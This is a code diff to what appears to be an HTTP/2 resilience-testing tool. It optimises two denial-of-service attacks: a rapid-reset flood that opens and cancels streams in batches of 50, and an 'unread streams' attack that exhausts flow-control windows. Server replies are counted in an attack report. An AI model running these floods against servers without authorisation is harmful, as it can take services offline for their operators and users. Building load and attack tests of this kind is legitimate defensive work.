@@ -370,45 +370,60 @@ def _code(error_code: int) -> str:
 
 
 class _H2Client:
-    """One client HTTP/2 connection through the `h2` state machine (which the attacks
-    use to open and reset streams), with its replies read into the report."""
+    """One attacking HTTP/2 connection: what it sends is made in advance (`opening`,
+    `batches`), the same bytes for every connection of an attack (stream ids start at 1
+    on each, and so does HPACK's state): an attacker spends its time on the server, not
+    on encoding. What the server sends back is read into the report."""
 
     def __init__(
         self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, report: AttackReport
     ) -> None:
-        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
-        self.conn = h2.connection.H2Connection(config)
-        self.conn.initiate_connection()
         self.writer = writer
         self.replies = _Replies(reader, report)
 
     @classmethod
-    async def open(cls, endpoint: Endpoint, report: AttackReport) -> _H2Client:
+    async def open(cls, endpoint: Endpoint, report: AttackReport, opening: bytes) -> _H2Client:
+        """Connects and sends `opening` (preface, SETTINGS, the first requests) at once."""
         reader, writer = await endpoint.connect()
         client = cls(reader, writer, report)
-        await client.flush()
+        await client.send(opening)
         return client
 
     @property
     def usable(self) -> bool:
         return not self.replies.closed and self.replies.goaway is None
 
-    async def flush(self) -> None:
-        if data := self.conn.data_to_send():
-            self.writer.write(data)
-            with contextlib.suppress(OSError):
-                await self.writer.drain()
-
-    def request(self, headers: list[tuple[str, str]], body: bytes | None = None) -> int:
-        """Opens a stream with these headers (and this body, ending the request)."""
-        stream_id = self.conn.get_next_available_stream_id()
-        self.conn.send_headers(stream_id, headers, end_stream=body is None)
-        if body is not None:
-            self.conn.send_data(stream_id, body, end_stream=True)
-        return stream_id
+    async def send(self, data: bytes) -> None:
+        self.writer.write(data)
+        with contextlib.suppress(OSError):
+            await self.writer.drain()
 
     def close(self) -> None:
         _abort(self.writer)
+
+
+def _h2_bytes(
+    endpoint: Endpoint, method: str, streams: int, body: bytes | None = None, reset: bool = False
+) -> tuple[bytes, list[bytes]]:
+    """What an attacking connection sends, made once with the `h2` state machine: its
+    opening (preface, SETTINGS) and `streams` requests of `method` (with `body`, ending
+    the request; or reset at once with RST_STREAM CANCEL), in batches of 50 streams."""
+    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+    conn = h2.connection.H2Connection(config)
+    conn.initiate_connection()
+    opening = conn.data_to_send()
+    headers = _request_headers(endpoint, method)
+    batches = []
+    for first in range(0, streams, 50):
+        for _ in range(first, min(first + 50, streams)):
+            stream_id = conn.get_next_available_stream_id()
+            conn.send_headers(stream_id, headers, end_stream=body is None and not reset)
+            if body is not None:
+                conn.send_data(stream_id, body, end_stream=True)
+            if reset:
+                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
+        batches.append(conn.data_to_send())
+    return opening, batches
 
 
 async def rapid_reset(
@@ -419,20 +434,20 @@ async def rapid_reset(
     a connection the server closes are not sent elsewhere. `hold` bounds it."""
     report = AttackReport("rapid reset")
     opened = _Connections(report, connections)
-    headers = _request_headers(endpoint, UNARY_METHOD)
     until = time.monotonic() + hold
+    opening, batches = _h2_bytes(endpoint, UNARY_METHOD, -(-size // connections), reset=True)
 
     async def one(index: int) -> None:
         share = size // connections + (index < size % connections)
-        client = await _H2Client.open(endpoint, report)
+        client = await _H2Client.open(endpoint, report, opening)
         with opened.open():
             reading = asyncio.ensure_future(client.replies.read_until(until))
             sent = 0
-            while sent < share and client.usable and time.monotonic() < until:
-                for _ in range(min(50, share - sent)):
-                    client.conn.reset_stream(client.request(headers), h2.errors.ErrorCodes.CANCEL)
-                    sent += 1
-                await client.flush()
+            for batch in batches:
+                if sent >= share or not client.usable or time.monotonic() >= until:
+                    break
+                await client.send(batch)
+                sent += min(50, share - sent)
                 await asyncio.sleep(0)  # let the replies in: a GOAWAY stops the sending
             report.tried += sent
             if sent < share:
@@ -503,22 +518,19 @@ async def unread_streams(
     for `hold` seconds. Then what the server sent meanwhile is read and counted."""
     report = AttackReport("unread streams")
     connections = _Connections(report, size)
-    headers = _request_headers(endpoint, STREAM_METHOD)
-    body = _unread_stream_body(count)
+    opening, batches = _h2_bytes(endpoint, STREAM_METHOD, streams, _unread_stream_body(count))
+    opening += b"".join(batches)
     until = time.monotonic() + hold
 
     async def one(_: int) -> None:
         try:
-            client = await _H2Client.open(endpoint, report)
+            client = await _H2Client.open(endpoint, report, opening)
         except (OSError, TimeoutError) as err:
             connections.tried()
             report.answers[f"connect failed: {type(err).__name__}"] += 1
             return
+        report.tried += streams
         with connections.open():
-            for _ in range(streams):
-                client.request(headers, body)
-                report.tried += 1
-            await client.flush()
             await asyncio.sleep(max(until - time.monotonic(), 0))
             # What the server said meanwhile, as far as it got (it had no window).
             await client.replies.read_until(time.monotonic() + 1)
